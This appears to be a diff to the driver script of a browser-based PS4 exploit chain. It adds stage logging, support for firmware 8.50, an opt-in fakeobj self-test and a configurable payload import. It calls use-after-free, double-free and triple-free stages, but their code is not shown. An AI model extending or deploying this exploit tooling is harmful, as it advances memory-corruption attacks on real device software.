@@ -32,6 +32,8 @@ import { Memory } from './module/mem.mjs';
 
 import {
     die,
+    log,
+    log_stage,
     debug_log,
     clear_log,
     str2array,
@@ -46,7 +48,8 @@ const ssv_len = (() => {
             return 0x50;
         }
         case config.ps4_6_50:
-        case config.ps4_8_03: {
+        case config.ps4_8_03:
+        case config.ps4_8_50: {
             return 0x48;
         }
         default: {
@@ -630,6 +633,12 @@ async function setup_arw(save, ssv_data) {
             // bad happening.
             s1 = null;
 
+            // opt-in, a GC during the test may crash the browser
+            if (config.self_test) {
+                mem.test_fakeobj();
+                debug_log('fakeobj() round-trip ok');
+            }
+
             return;
         }
     }
@@ -684,27 +693,35 @@ async function get_ready() {
 }
 
 async function run() {
-    debug_log('stage: readying');
+    if (config.firmware_error !== null) {
+        die(config.firmware_error);
+    }
+    if (config.firmware !== null) {
+        const name = config.firmware_name(config.firmware);
+        log('info', `firmware: ${name} (from the ${config.firmware_source})`);
+    }
+    log_stage('readying');
     await get_ready();
 
-    debug_log('stage: UaF 1');
+    log_stage('UaF 1');
     await use_after_free(pop, s1);
 
     // we trigger the leak first because it is more likely to work
     // than if it were to happen during the second ssv smashing
     // on the ps4
-    debug_log('stage: double free');
+    log_stage('double free');
     // * keeps setup_ar()'s total sleep even lower
     // * also helps the garbage collector scheduling for 9.xx
     await sleep(0);
     await double_free(s1);
 
-    debug_log('stage: triple free');
+    log_stage('triple free');
     await triple_free(s1, jsview, view_leak_arr, view_leak);
 
     clear_log();
-    // path to your script that will use the exploit
-    import('./code.mjs');
+    log_stage('payload');
+    // path to your script that will use the exploit, see config.payloads
+    import('./' + config.payload);
 }
 
 run();